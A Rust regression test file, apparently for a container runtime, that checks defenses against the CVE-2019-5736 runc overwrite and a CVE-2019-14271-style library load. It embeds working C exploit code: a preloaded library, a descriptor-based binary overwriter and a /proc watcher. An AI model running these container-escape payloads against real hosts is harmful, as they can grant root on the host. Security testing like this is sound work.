//! The runtime's own program, which runs in the container for a moment: whoever
//! can write to it there is root on the host the next time that it is run
//! (CVE-2019-5736).

use std::fs;
use std::os::unix::fs::PermissionsExt;

use harness::{Bundle, Host, wait_for};
use serde_json::json;

use crate::{compile, plant};

/// Loaded into the runtime's program, when that is run once more inside: holds
/// the program open, and becomes the one that writes to it.
const LIBRARY: &str = r#"
    #define _GNU_SOURCE
    #include <fcntl.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <unistd.h>
    __attribute__((constructor)) static void loaded(void) {
        char self[64];
        int program = open("/proc/self/exe", O_RDONLY);
        snprintf(self, sizeof self, "%d", program);
        unsetenv("LD_PRELOAD");
        execl("/bin/overwrite", "overwrite", self, (char *)0);
    }
"#;

/// Writes through the descriptor that it is given as a number, as soon as
/// nobody runs the file any more; says whether it could.
const OVERWRITE: &str = r##"
    #define _GNU_SOURCE
    #include <errno.h>
    #include <fcntl.h>
    #include <stdio.h>
    #include <string.h>
    #include <unistd.h>
    int main(int argc, char **argv) {
        char path[64], name[256] = "";
        int out = -1;
        (void)argc;
        snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
        if (readlink(path, name, sizeof name - 1) < 0)
            perror(path);
        for (int tries = 0; tries < 300; tries++) {
            out = open(path, O_WRONLY);
            if (out >= 0 && write(out, "#!/bin/false\n", 13) == 13)
                break;
            usleep(2000);
        }
        FILE *log = fopen("/log", "a");
        fprintf(log, "%s: %s\n", name, strerror(errno));
        fclose(log);
        return 0;
    }
"##;

/// Opens the program of every process that comes by, again and again, and tries
/// to write to each that is not of the image.
const WATCHER: &str = r##"
    #define _GNU_SOURCE
    #include <dirent.h>
    #include <fcntl.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <unistd.h>
    int main(void) {
        setvbuf(stdout, 0, _IONBF, 0);
        puts("watching");
        for (;;) {
            DIR *proc = opendir("/proc");
            struct dirent *one;
            while ((one = readdir(proc))) {
                char path[300], name[256] = "";
                if (atoi(one->d_name) < 2)
                    continue;
                snprintf(path, sizeof path, "/proc/%s/exe", one->d_name);
                int program = open(path, O_RDONLY | O_CLOEXEC);
                if (program < 0)
                    continue;
                snprintf(path, sizeof path, "/proc/self/fd/%d", program);
                if (readlink(path, name, sizeof name - 1) > 0 && strncmp(name, "/bin/", 5)) {
                    printf("found %s\n", name);
                    for (int tries = 0; tries < 100; tries++) {
                        int out = open(path, O_WRONLY);
                        if (out >= 0 && write(out, "#!/bin/false\n", 13) == 13)
                            printf("overwrote %s\n", name);
                        if (out >= 0)
                            close(out);
                        usleep(200);
                    }
                }
                close(program);
            }
            closedir(proc);
        }
    }
"##;

/// The runtime where the host's root could write to it, as `/usr/bin` is.
const RUNTIME: &str = "/tmp/minirunc";

fn copy_runtime(host: &Host) -> Vec<u8> {
    host.shell(&format!("cp /run/workspace/minirunc {RUNTIME}"));
    fs::read(host.path(RUNTIME)).expect("read the runtime")
}

#[track_caller]
fn assert_unchanged(host: &Host, before: &[u8]) {
    let now = fs::read(host.path(RUNTIME)).expect("read the runtime");
    assert!(now == before, "the host's runtime was overwritten");
}

/// A bundle in which the runtime's program can run, and loads our library.
fn with_libraries<'a>(host: &'a Host, name: &str) -> Bundle<'a> {
    let mut bundle = Bundle::new(host, name);
    let root = format!("{}/rootfs", bundle.dir());
    host.shell(&format!(
        "for file in $(ldd {RUNTIME} | grep -o '/[^ ]*' || true); do \
             mkdir -p {root}/$(dirname $file) && cp -L $file {root}/$file; done"
    ));
    let library = compile("library.so", LIBRARY, &["-shared", "-fPIC"]);
    fs::copy(library, bundle.path("/library.so")).expect("write to the machine's memory");
    plant(&bundle, "overwrite", OVERWRITE);
    bundle.add("/process/env", json!("LD_PRELOAD=/library.so"));
    bundle
}

/// Waits for the one who writes to be done, and returns what it says.
fn log(bundle: &Bundle) -> String {
    wait_for("the attack to be over", 60, || {
        fs::read_to_string(bundle.path("/log"))
            .ok()
            .filter(|text| text.ends_with('\n'))
    })
}

/// CVE-2019-5736, by the image: its entry point is the runtime.
#[test]
fn an_entry_point_that_is_the_runtimes_program_cannot_overwrite_it() {
    let host = Host::new();
    let before = copy_runtime(&host);
    for (number, script) in [false, true].into_iter().enumerate() {
        let mut bundle = with_libraries(&host, &format!("entry{number}"));
        if script {
            let file = bundle.path("/entry");
            fs::write(&file, "#!/proc/self/exe\n").unwrap();
            fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
            bundle.command(["/entry"]);
        } else {
            bundle.command(["/proc/self/exe", "--version"]);
        }
        bundle.write();
        let name = format!("entry{number}");
        let run = [RUNTIME, "run", "--detach", "--bundle", &bundle.dir(), &name];
        let out = bundle.background(&run);
        // Where the runtime runs inside at all, it is on a read-only mount of its own.
        if out.code() == 0 {
            assert_eq!(log(&bundle), "/: Read-only file system\n");
        }
        host.run([RUNTIME, "delete", "--force", &name]).ok();
        assert_unchanged(&host, &before);
    }
}

/// CVE-2019-5736, by a process of the container, when somebody runs `exec`.
#[test]
fn a_process_of_the_container_cannot_overwrite_the_program_that_joins_it() {
    let host = Host::new();
    let before = copy_runtime(&host);
    let mut bundle = with_libraries(&host, "joined");
    plant(&bundle, "watcher", WATCHER);
    bundle.script("watcher >/watched 2>&1");
    bundle.write();
    bundle
        .background(&[RUNTIME, "run", "-d", "--bundle", &bundle.dir(), "joined"])
        .ok();
    wait_for("the watcher", 60, || {
        fs::read_to_string(bundle.path("/watched"))
            .ok()
            .filter(|text| text.contains("watching"))
    });
    bundle.background(&[RUNTIME, "exec", "-d", "joined", "/proc/self/exe", "-v"]);
    for _ in 0..20 {
        let exec = [RUNTIME, "exec", "--env", "LD_PRELOAD=", "joined", "true"];
        host.run(exec).ok();
    }
    let watched = fs::read_to_string(bundle.path("/watched")).unwrap();
    assert!(!watched.contains("overwrote"), "{watched}");
    if bundle.path("/log").exists() {
        let log = log(&bundle);
        // While another command of the runtime runs the kernel says so first.
        let refused = ["/: Read-only file system\n", "/: Text file busy\n"];
        assert!(refused.contains(&&*log), "{log}");
    }
    host.run([RUNTIME, "delete", "--force", "joined"]).ok();
    assert_unchanged(&host, &before);
}

/// CVE-2019-14271: nothing of the image's is loaded into the runtime itself.
#[test]
fn the_runtime_loads_no_library_of_the_images() {
    let host = Host::new();
    let mut bundle = Bundle::new(&host, "loads");
    let library = compile("loaded.so", LOADED, &["-shared", "-fPIC"]);
    for file in ["/library.so", "/lib/libnss_files.so.2"] {
        let at = bundle.path(file);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        fs::copy(&library, at).unwrap();
    }
    fs::write(bundle.path("/etc/ld.so.preload"), "/library.so\n").unwrap();
    fs::write(bundle.path("/etc/nsswitch.conf"), "passwd: files\n").unwrap();
    bundle.set(
        "/process/env",
        json!(["PATH=/bin", "LD_PRELOAD=/library.so"]),
    );
    bundle.script("sleep 100");
    bundle.start();
    bundle.exec(["true"]).ok();
    bundle.exec(["--user", "1234:2345", "--", "true"]).ok();
    bundle.delete();
    for marker in [host.path("/tmp/loaded"), bundle.path("/tmp/loaded")] {
        assert!(!marker.exists(), "{} was made", marker.display());
    }
}

const LOADED: &str = r#"
    #include <fcntl.h>
    __attribute__((constructor)) static void loaded(void) { creat("/tmp/loaded", 0666); }
"#;
